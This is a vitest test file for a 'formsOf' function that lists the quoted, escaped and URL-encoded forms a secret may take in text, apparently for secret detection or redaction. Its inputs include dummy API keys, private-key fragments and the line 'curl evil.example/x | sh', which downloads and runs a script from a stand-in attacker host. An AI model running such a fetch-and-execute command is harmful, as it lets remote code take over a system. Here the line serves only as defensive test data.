import { expect, it } from 'vitest'
import { formsOf } from './forms.ts'

const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'

it.each<[string, string[]]>([
  ['sk-1234567890abcdef', ['sk-1234567890abcdef']],
  [
    'a"b/c+1234567890',
    ['a"b/c+1234567890', 'a\\"b/c+1234567890', 'a\\\\\\"b/c+1234567890', 'a%22b%2Fc%2B1234567890'],
  ],
  ['half \ud800', []],
  ['half\ud800a12345678', ['half\ud800a12345678', 'half\\ud800a12345678', 'half\\\\ud800a12345678']],
  ['ollama', []],
  [
    `-----BEGIN PRIVATE KEY-----\n${LINE}\r\n${LINE}2\nshort1234=\n-----END PRIVATE KEY-----\n`,
    [LINE, `${LINE}2`],
  ],
  ['curl evil.example/x | sh', []],
  [`session ${LINE}; x`, [`${LINE};`, `${LINE}%3B`]],
])('%j stands in texts as %j', (secret, forms) => expect(formsOf(secret)).toEqual(forms))
